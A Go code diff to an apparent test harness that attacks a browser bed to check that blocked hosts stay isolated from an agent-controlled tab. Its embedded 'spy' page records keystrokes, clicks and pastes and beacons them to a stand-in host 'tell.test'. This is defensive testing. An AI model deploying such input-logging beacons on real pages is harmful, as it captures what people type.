@@ -56,6 +56,7 @@ const (
 	otherHost   = "other.test"
 	blockedHost = "blocked.test"
 	nearHost    = "secret.allowed.test"
+	tellHost    = "tell.test" // which pages tell what they see
 )
 
 // gate runs attacks against one bed.
@@ -105,7 +106,7 @@ func (g *gate) words(n int, host string) *strings.Replacer {
 	list := []string{
 		"{n}", strconv.Itoa(n), "{top}", at(allowedHost, "top"), "{mid}", at(otherHost, "mid"), "{sub}", at("sub."+allowedHost, "mid"),
 		"{in}", at(blockedHost, "in"), "{near}", at(nearHost, "in"), "{own}", at(allowedHost, "own"), "{hop}", at(allowedHost, "hop"),
-		"{far}", at(blockedHost, ""),
+		"{far}", at(blockedHost, ""), "{tell}", at(tellHost, "told"),
 	}
 	if host == blockedHost || host == nearHost {
 		list = append(list, "{mark}", marker)
@@ -172,10 +173,10 @@ func (g *gate) serve(w http.ResponseWriter, r *http.Request) {
 }
 
 // spy is how each page of a blocked host begins. It shows the marker wherever a
-// page can show something, paints a colour that no other page has, and tells its
-// server of all input that it gets.
+// page can show something, paints a colour that no other page has, and tells an
+// allowed host of all input that it gets.
 const spy = `<!doctype html><style>html{background:#f0f!important;color:#f0f}</style><script>
-const say=(type,detail)=>navigator.sendBeacon(location.origin==="null"?"":"/case/{n}/told",type+" "+(detail??""));
+const say=(type,detail)=>navigator.sendBeacon(location.origin==="null"?"":"{tell}",type+" "+(detail??""));
 const watch=w=>{for(const t of ["mousedown","mouseup","click","dblclick","contextmenu","auxclick","wheel","keydown","keypress","keyup","beforeinput","input","change","paste","drop","dragstart","mousemove","mouseover","dragover"])
 w.addEventListener(t,e=>{if(e.isTrusted)say("input "+t,e.key)},{capture:true,passive:true})};
 watch(window);
@@ -308,7 +309,9 @@ func (g *gate) run(n int) {
 			}
 		}
 	} else {
-		g.tab = g.b.Open(g, g.word("{top}"))
+		// In the person's tab a frame of the blocked site comes; once the agent has the tab
+		// none does any more.
+		g.tab = g.b.OpenAsPerson(g, g.word("{top}"))
 	}
 	ready()
 	for _, action := range a.do {
